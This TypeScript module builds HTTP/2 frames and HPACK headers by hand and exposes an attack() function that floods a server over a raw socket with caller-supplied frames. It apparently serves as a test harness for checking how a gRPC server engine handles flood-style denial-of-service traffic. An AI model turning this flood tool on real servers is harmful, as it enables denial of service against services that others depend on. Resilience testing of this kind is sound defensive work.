/** HTTP/2 as an attacker writes it: frames by hand (RFC 9113, section 4.1). */
import { connect, type Socket } from 'node:net';

export const FRAME = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
export const END_STREAM = 0x1;
export const END_HEADERS = 0x4;

export function frame(type: number, flags: number, streamId: number, payload: Uint8Array = EMPTY): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

const EMPTY = new Uint8Array(0);

/** A header without compression, as HPACK writes one that it does not index (RFC 7541, 6.2.2). */
export function header(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length: number[] = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) + 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

/** The headers of a gRPC request. */
export function requestHeaders(path: string): Buffer {
  return Buffer.concat([
    header(':method', 'POST'),
    header(':scheme', 'http'),
    header(':path', path),
    header(':authority', 'localhost'),
    header('content-type', 'application/grpc'),
    header('te', 'trailers'),
  ]);
}

export interface Attack extends AsyncDisposable {
  readonly socket: Socket;
  /** Resolves when the engine has closed the connection. */
  readonly closed: Promise<void>;
  /** Writes until this much is out, or the connection is over; whoever is slow to read slows it down. */
  flood(make: (at: number) => Buffer, times: number): Promise<void>;
}

export async function attack(address: string): Promise<Attack> {
  const [host = '', port] = address.split(':');
  const socket = connect(Number(port), host);
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  // A reset is how a connection ends that is refused in the middle of what it says.
  socket.on('error', () => undefined);
  socket.resume();
  await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
  return {
    socket,
    closed,
    async flood(make, times) {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame(FRAME.settings, 0, 0));
      for (let at = 0; at < times && !socket.destroyed; at += 100) {
        const batch = Array.from({ length: 100 }, (_, index) => make(at + index));
        if (socket.write(Buffer.concat(batch))) await new Promise(setImmediate);
        else await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed]);
      }
    },
    async [Symbol.asyncDispose]() {
      socket.destroy();
      await closed;
    },
  };
}
